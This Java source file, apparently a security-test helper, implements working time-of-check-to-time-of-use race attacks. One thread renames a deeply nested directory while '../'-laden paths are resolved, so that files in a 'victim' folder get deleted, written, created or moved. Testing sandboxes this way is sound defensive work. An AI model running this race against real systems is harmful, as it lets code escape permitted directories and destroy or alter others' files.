import java.io.*;
import java.nio.file.*;
import java.util.concurrent.atomic.AtomicBoolean;

/** At the moment between the question and the deed. */
class RacingAttacks {

  private static final int DEPTH = 24;
  private static final long MILLIS = Long.getLong("racing.millis", 200);

  private interface Deed { void on(String path) throws Exception; }

  /** A folder with others in it, of which the last is moved up and down until the deed is done; dots lead up from where it is. */
  private static void climb(String victim, Deed deed) throws Throwable {
    Path own = Files.createTempDirectory("own");
    StringBuilder deep = new StringBuilder();
    for (int i = 0; i < DEPTH; i++) { deep.append("/d"); }
    File down = new File(own + deep.toString() + "/m");
    File up = new File(own + "/m");
    down.mkdirs();
    StringBuilder path = new StringBuilder(down.getPath());
    for (int i = 0; i < 200; i++) { path.append("/../m"); }
    for (int i = 0; i <= DEPTH; i++) { path.append("/.."); }
    path.append(victim);
    AtomicBoolean done = new AtomicBoolean();
    Thread mover = new Thread(() -> { while (!done.get()) { down.renameTo(up); up.renameTo(down); } });
    mover.start();
    try {
      long end = System.nanoTime() + MILLIS * 1_000_000;
      while (System.nanoTime() < end) {
        try { deed.on(path.toString()); } catch (IOException e) { }
      }
    } finally {
      done.set(true);
      mover.join();
    }
    new File(victim, "file.txt").delete();
  }

  static void deleteAboveFolderThatMoves(String victim) throws Throwable { climb(victim, path -> new File(path + "/file.txt").delete()); }
  static void writeAboveFolderThatMoves(String victim) throws Throwable { climb(victim, path -> new FileOutputStream(path + "/file.txt").close()); }
  static void createAboveFolderThatMoves(String victim) throws Throwable { climb(victim, path -> Files.createFile(Paths.get(path + "/new"))); }
  static void moveAboveFolderThatMoves(String victim) throws Throwable { climb(victim, path -> Files.move(Paths.get(path + "/folder"), Files.createTempDirectory("own").resolve("taken"))); }
}
